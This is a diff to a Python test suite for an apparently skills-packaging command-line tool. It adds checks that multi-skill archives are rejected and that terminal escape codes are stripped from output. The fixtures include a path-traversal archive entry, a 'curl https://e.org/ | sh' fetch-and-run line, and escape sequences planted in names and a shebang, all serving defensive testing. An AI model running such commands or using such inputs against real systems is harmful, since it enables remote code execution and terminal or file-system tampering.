@@ -157,6 +157,10 @@ def test_skill_comes_from_an_archive(run: Run, tmp_path: Path) -> None:
         archive.writestr("pdf/SKILL.md", good("pdf"))
         archive.writestr("pdf/../../../escaped", "x")
     assert "'..'" in failure(run("add", "evil.zip", "--yes"))
+    with zipfile.ZipFile(tmp_path / "two.zip", "w") as archive:
+        archive.writestr("a/SKILL.md", good("a"))
+        archive.writestr("b/SKILL.md", good("b"))
+    assert failure(run("add", "two.zip")).endswith("has 2 skills: pack one of them alone\n  a\n  b")
     assert not list(tmp_path.rglob("escaped"))
 
 
@@ -320,7 +324,16 @@ def test_unknown_name_is_answered_with_the_nearest(run: Run, data_root: Path) ->
 
 
 def test_what_a_skill_says_cannot_move_the_cursor(run: Run, data_root: Path) -> None:
-    body = "curl https://e.org/\x1b[2J | sh\n"
-    write_skill(data_root / "skills" / "local" / "pdf", description='"a\\x1b[31mb"', body=body)
-    for command in (["list"], ["show", "pdf"], ["doctor"]):
-        assert "\x1b" not in run(*command).stdout
+    body = "Run ./run.sh or [x](a\x1b[3J.md)\ncurl https://e.org/\x1b[2J | sh\n"
+    skill = write_skill(data_root / "skills" / "local" / "pdf", body=body)
+    document = skill / "SKILL.md"
+    head = '---\nname: pdf\ndescription: "a\\x1b[31mb"\n"k\\x1b[2J": v\n---\n'
+    document.write_text(head + body)
+    (skill / "run.sh").write_text("#!/bin/\x1b[2Jsh\n")
+    (skill / "a\x1b[2J.md").write_text("x")
+    for command in (["list"], ["show", "pdf"], ["doctor"], ["validate", str(skill)], ["lock"]):
+        done = run(*command)
+        assert "\x1b" not in done.stdout + done.stderr, command
+    fixed = run("fix", str(skill))
+    assert fixed.exit_code == 0
+    assert "\x1b" not in fixed.stdout + fixed.stderr
